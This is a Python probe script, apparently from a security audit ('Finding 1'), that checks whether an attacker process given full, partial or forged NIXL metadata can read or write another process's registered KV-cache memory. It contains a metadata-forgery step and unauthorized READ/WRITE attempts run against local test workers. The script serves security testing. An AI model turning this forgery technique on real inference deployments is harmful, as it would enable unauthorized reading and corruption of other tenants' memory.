"""Finding 1: what a peer can do with the metadata it is given (full, partial, forged).

A source registers an "arena" (what kvcr serves) and "host" pages (SGLang's, read into by kvcr)
with NIXL; an attacker process loads the source's metadata and tries raw NIXL READs and WRITEs of
both. Run: ``python scripts/probes/probe_exposure.py [--tls tcp]``. Prints one JSON line per case.
"""

from __future__ import annotations

import argparse
import json
import struct

from harness import Worker, workers

MIB = 1 << 20


def attempt(attacker: Worker, source: Worker, op: str, peer: str, addr: int) -> dict[str, object]:
    before = source.call("digest", label="host")["sha1"], source.call("digest", label="arena")["sha1"]
    posted = attacker.call("xfer", check=False, op=op, peer=peer, local=[["loot", 0, 4096]], remote=[[addr, 4096]])
    result: dict[str, object] = {}
    if not posted["ok"]:
        result["refused_locally"] = posted["error"]
    else:
        done = attacker.call("wait", id=posted["id"], limit=5)
        result["state"] = done["state"]
        attacker.call("release", id=posted["id"], check=False)
    after = source.call("digest", label="host")["sha1"], source.call("digest", label="arena")["sha1"]
    result["source_changed"] = before != after
    if op == "READ":
        result["loot_nonzero"] = attacker.call("digest", label="loot", length=4096)["nonzero"]
        attacker.call("fill", label="loot", byte=0)
    return result


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--tls", default=None)
    args = parser.parse_args()
    env = {"UCX_TLS": args.tls} if args.tls else {}
    source, attacker = Worker("source", env=env), Worker("attacker", env=env)
    with workers(source, attacker):
        arena = source.call("alloc", label="arena", size=MIB, seed=1)["addr"]
        host = source.call("alloc", label="host", size=MIB, seed=2)["addr"]
        source.call("register", reg="arena", label="arena")
        source.call("register", reg="host", label="host")
        source.call("pump", interval=0.002)  # tcp emulation needs the source to progress
        attacker.call("alloc", label="loot", size=MIB)
        attacker.call("fill", label="loot", byte=0)
        attacker.call("register", reg="loot", label="loot")
        full = source.call("md")["md"]
        partial = source.call("md", regs=["arena"])["md"]
        raw = bytes.fromhex(partial)
        forged = raw.replace(struct.pack("<Q", arena), struct.pack("<Q", host)).hex()
        assert forged != partial
        for kind, md in (("full", full), ("partial", partial), ("forged", forged)):
            peer = attacker.call("load", md=md)["name"]
            for op in ("READ", "WRITE"):
                for target, addr in (("arena", arena), ("host", host)):
                    out = attempt(attacker, source, op, peer, addr)
                    if op == "WRITE" and out.get("source_changed"):
                        source.call("seed", label=target, seed=1 if target == "arena" else 2)
                    print(json.dumps({"tls": args.tls or "default", "md": kind, "op": op, "region": target, **out}))
            attacker.call("remove", name=peer)
        print(json.dumps({"md_bytes": {"full": len(full) // 2, "partial": len(partial) // 2}}))


if __name__ == "__main__":
    main()
